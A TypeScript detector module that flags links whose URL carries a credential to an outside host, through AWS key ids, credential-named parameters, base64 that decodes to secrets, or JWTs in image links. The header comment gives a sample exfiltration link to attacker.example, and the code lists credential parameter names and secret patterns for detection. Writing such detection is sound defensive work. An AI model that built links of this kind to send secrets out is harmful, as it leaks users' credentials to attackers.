import { Buffer } from 'node:buffer';
import { isPlaceholder, looksRandom } from '../secrets/secret-value.js';
import { hostOf } from './collector-hosts.js';
import { bytesAsText } from './encoded-payload.js';
import { SECRET_SHAPE } from './url-vocabulary.js';

/**
 * A credential carried in a link's URL: `[click here](https://attacker.example/c?key=AKIA...)`.
 * The link text hides where it goes, so one click hands the value to that host (and the page there
 * reads the fragment too). Ordinary links are full of long random values (commit SHAs, UUIDs,
 * document ids, click-tracking blobs), so a value counts only by a credential's own shape: an AWS
 * access key id anywhere, a generated-looking value under a parameter named for a credential, or
 * base64 that decodes to a credential. Known token formats in clear (`ghp_`, `sk-`) are scored by
 * url-payload.ts already.
 */

const AWS_KEY_ID = /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/;
/** Presigned S3 links name their signing key id here (SigV4, SigV2): that is how they work. */
const PRESIGN_PARAMS: ReadonlySet<string> = new Set(['x-amz-credential', 'awsaccesskeyid']);
/** AWS's own hosts: their console and S3 links carry key ids. */
const AWS_HOST = /(?:^|\.)(?:amazonaws\.com(?:\.cn)?|aws\.amazon\.com)$/;

/**
 * Parameters that hold a credential by name. Not a bare `token` or `code`: reset, invite,
 * unsubscribe and OAuth links carry their own one-time values there.
 */
const CREDENTIAL_PARAMS: ReadonlySet<string> = new Set(
  (
    'key apikey api_key api-key x-api-key access_key accesskey secret_key secretkey access_token ' +
    'accesstoken auth_token authtoken api_token apitoken private_token private_key refresh_token ' +
    'session_token client_secret aws_secret_access_key'
  ).split(' '),
);
/** A token's characters (base64, base64url, hex); at least 24 of them, as url-payload.ts counts a long value. */
const TOKEN_VALUE = /^[A-Za-z0-9_+/=-]{24,512}$/;
const HEX_VALUE = /^[0-9a-f]{32,}$/i;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const BASE64_BLOB = /^[A-Za-z0-9+/_-]{24,4096}={0,2}$/;
/** A credential written out in decoded text: `password=...`, `"api_key": "..."`, `aws_secret_access_key=...`. */
const ASSIGNED_CREDENTIAL =
  /(?<![A-Za-z])(?:pass(?:word|wd)?|pwd|secret|api[_-]?key|access[_-]?(?:key|token)|private[_-]?key|client[_-]?secret|credentials?)["']?\s*[:=]\s*["']?[^\s"',;&]{4,}/i;
/** Hosts a link to which stays on the user's machine or network. */
const LOCAL_HOST =
  /^(?:localhost|.+\.localhost|127\.\d+\.\d+\.\d+|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|\[::1\])$/;

function percentDecode(text: string): string {
  if (!text.includes('%')) return text;
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

/** True for base64 of 24+ characters that decodes to text holding a credential. */
function decodesToCredential(value: string): boolean {
  if (!BASE64_BLOB.test(value)) return false;
  const text = bytesAsText(Buffer.from(value, 'base64'));
  return text !== null && (SECRET_SHAPE.test(text) || ASSIGNED_CREDENTIAL.test(text));
}

function awsKeyIdIn(value: string): boolean {
  const m = AWS_KEY_ID.exec(value);
  return m !== null && !isPlaceholder(m[0]);
}

/** A value generated to be a credential: long, varied, mixing cases and digits (or long hex); not a UUID. */
function looksLikeGeneratedCredential(value: string): boolean {
  if (!TOKEN_VALUE.test(value) || UUID.test(value)) return false;
  if (HEX_VALUE.test(value)) return looksRandom(value, { minEntropy: 3 });
  return looksRandom(value, { minEntropy: 3.5, minKinds: 3 });
}

/**
 * A signed JWT (header and claims both JSON objects in base64url): a session handed over whole.
 * Only in an image, which is fetched unasked; sign-in and verification links carry JWTs by design.
 */
const JWT = /^eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}$/;

/** What credential a parameter carries, or null. */
function paramCredential(name: string, value: string, awsAllowed: boolean, image: boolean): string | null {
  if (awsAllowed && !PRESIGN_PARAMS.has(name) && awsKeyIdIn(value)) return `AWS access key id in "${name}"`;
  if (image && JWT.test(value)) return `JWT in "${name}"`;
  if (CREDENTIAL_PARAMS.has(name) && looksLikeGeneratedCredential(value))
    return `credential-like value in "${name}"`;
  return decodesToCredential(value) ? `"${name}" value decodes to a credential` : null;
}

function segmentCredential(segment: string, awsAllowed: boolean): string | null {
  if (awsAllowed && awsKeyIdIn(segment)) return 'AWS access key id in the path';
  return decodesToCredential(segment.replace(/\.[a-z0-9]{2,5}$/i, ''))
    ? 'path segment decodes to a credential'
    : null;
}

/** Why an http(s) URL (of an image when `image`) carries a credential to an outside host, or null. */
export function credentialInUrl(url: string, image = false): string | null {
  const host = hostOf(url);
  if (host === null || LOCAL_HOST.test(host)) return null;
  const awsAllowed = !AWS_HOST.test(host);
  const hash = url.indexOf('#');
  const beforeHash = hash === -1 ? url : url.slice(0, hash);
  const queryAt = beforeHash.indexOf('?');
  const pathStart = beforeHash.indexOf('/', beforeHash.indexOf('//') + 2);
  const path = pathStart === -1 ? '' : beforeHash.slice(pathStart, queryAt === -1 ? undefined : queryAt);
  for (const segment of path.split('/', 40)) {
    const found = segment.length >= 20 ? segmentCredential(percentDecode(segment), awsAllowed) : null;
    if (found) return found;
  }
  // The fragment never reaches the server, but the page there reads it.
  const params = `${queryAt === -1 ? '' : beforeHash.slice(queryAt + 1)}&${hash === -1 ? '' : url.slice(hash + 1)}`;
  for (const pair of params.split('&', 80)) {
    const eq = pair.indexOf('=');
    if (eq <= 0 || pair.length - eq - 1 < 20) continue;
    const name = percentDecode(pair.slice(0, eq)).toLowerCase();
    const found = paramCredential(name, percentDecode(pair.slice(eq + 1)), awsAllowed, image);
    if (found) return found;
  }
  return null;
}
